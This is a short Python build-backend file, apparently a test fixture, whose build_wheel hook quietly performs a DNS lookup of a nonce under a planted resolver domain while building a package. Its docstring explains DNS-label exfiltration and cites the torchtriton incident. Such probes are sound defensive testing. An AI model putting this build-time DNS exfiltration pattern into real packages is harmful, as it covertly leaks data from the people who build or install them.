"""Looks up a name whose first label carries the data.

The question travels from resolver to resolver until the attacker's name server answers
it. Whether the answer is "no such name" does not matter: the question was the message.
torchtriton sent its loot so, piece by piece.
"""

import socket

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    with kit.attempt("resolve"):
        domain = kit.plant("resolver").domain
        socket.getaddrinfo(f"{kit.nonce}.{domain}", None)
    return kit.wheel(wheel_directory)
